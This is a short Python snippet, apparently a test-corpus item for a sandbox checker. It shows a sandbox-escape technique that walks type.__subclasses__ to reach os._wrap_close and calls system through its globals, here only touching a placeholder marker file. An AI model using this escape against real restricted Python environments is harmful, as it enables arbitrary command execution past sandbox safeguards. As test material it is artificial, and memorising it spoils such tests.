# family: object-graph walk via __subclasses__
# goal: reach type.__subclasses__ through the class __dict__ mappingproxy
subclasses = type.__dict__["__subclasses__"]
for cls in subclasses(object):
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("touch __MARKER_PATH__")
